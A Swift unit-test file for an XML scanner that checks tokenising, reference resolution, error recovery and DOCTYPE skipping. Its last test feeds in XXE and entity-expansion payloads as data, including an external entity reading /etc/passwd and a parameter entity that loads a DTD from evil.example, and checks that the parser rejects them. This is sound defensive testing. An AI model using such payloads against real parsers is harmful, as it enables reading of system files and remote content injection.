import AggSource
import Testing

@testable import FeedSource

struct XMLScannerTests {
    private func tokens(_ text: String) throws -> ([XMLScanner.Token], XMLFault?) {
        var scanner = XMLScanner(Array(text.utf8))
        var tokens: [XMLScanner.Token] = []
        while true {
            let token = try scanner.next()
            if token == .over { return (tokens, scanner.fault) }
            tokens.append(token)
        }
    }

    @Test func `reads tags, values, text, and sections`() throws {
        let (tokens, fault) = try tokens(
            #"<?xml version="1.0"?><!-- <x> --><a:B one="1" two = 'a &amp; "b"'>t &lt;<c/><![CDATA[<d>&amp;]]></a:B>"#)
        #expect(
            tokens == [
                .start(
                    name: "a:b",
                    attributes: [
                        XMLAttribute(name: "one", value: "1"), XMLAttribute(name: "two", value: #"a & "b""#),
                    ], isEmpty: false),
                .text("t <"), .start(name: "c", attributes: [], isEmpty: true), .text("<d>&amp;"), .end(name: "a:b"),
            ])
        #expect(fault == nil)
    }

    @Test(arguments: [
        ("&#233;&#xE9;", "éé"), ("&eacute;&Eacute;", "éÉ"), ("&#8217;&#146;", "’’"), ("&nbsp;", "\u{A0}"),
        ("&#x1F600;", "😀"), ("&apos;&quot;", "'\""), ("&#0;&#xD800;", " \u{FFFD}"),
    ])
    func `resolves references, including those of HTML`(text: String, expected: String) throws {
        #expect(try tokens(text).0 == [.text(expected)])
        #expect(try tokens(text).1 == nil)
    }

    @Test(arguments: [
        ("a & b", "a & b", "an “&” that does not start a reference"),
        ("?a=1&copy=2", "?a=1&copy=2", "an “&” that does not start a reference"),
        ("&nonsense;", "&nonsense;", "an “&” that does not start a reference"),
        ("a\u{1}b", "ab", "a control character"),
    ])
    func `continues after an error in text and reports it`(text: String, expected: String, reason: String) throws {
        let (tokens, fault) = try tokens("\n\(text)")
        #expect(tokens == [.text("\n\(expected)")])
        #expect(fault == XMLFault(reason: reason, line: 2))
    }

    @Test(arguments: [
        "<a", "<a b", "<a b=", "<a b='", "<a b='c", "<a b=c", "</", "</a", "<!", "<!--", "<![CDATA[", "<![CDATA[x",
        "<?x",
        "<!DOCTYPE", "<!DOCTYPE a [", "<", "<1", "<a <b>", "<a b=<c>", "<a \"\">", "&", "&#;", "&#x;", "&#99999999999;",
    ])
    func `ends with a fault in truncated or garbled text`(text: String) throws {
        #expect(try tokens(text).1 != nil)
    }

    @Test(arguments: [
        "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://a.example/rss-0.91.dtd\"><a/>",
        "<!DOCTYPE a [ <!ELEMENT a (#PCDATA)> ]><a/>", "<!DOCTYPE a SYSTEM 'x>y'><a/>", "<!doctype a><a/>",
        "<!DOCTYPE a [ <!-- it's <!ENTITY here> ]> --> <!ELEMENT a (#PCDATA)> ]><a/>",
        "<!DOCTYPE a [ <?don't <!ENTITY read this?> ]><a/>", "<!DOCTYPE a [ <!-- \" --> ]><a/>",
        "<!DOCTYPE a [ <!ATTLIST a b CDATA \"<!-- it's\"> ]><a/>",
    ])
    func `skips a document type`(text: String) throws {
        #expect(try tokens(text).0 == [.start(name: "a", attributes: [], isEmpty: true)])
        #expect(try tokens(text).1 == nil)
    }

    @Test(arguments: [
        "<!DOCTYPE a [ <!ENTITY lol \"lol\"> <!ENTITY lol2 \"&lol;&lol;\"> ]><a>&lol2;</a>",
        "<!DOCTYPE a [\n<!ENTITY x SYSTEM \"file:///etc/passwd\">\n]><a>&x;</a>",
        "<!DOCTYPE a [ <!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p; ]><a/>",
    ])
    func `rejects entities that the document declares`(text: String) {
        #expect { try tokens(text) } throws: { ($0 as? SourceError)?.code == "invalid_data" }
    }
}
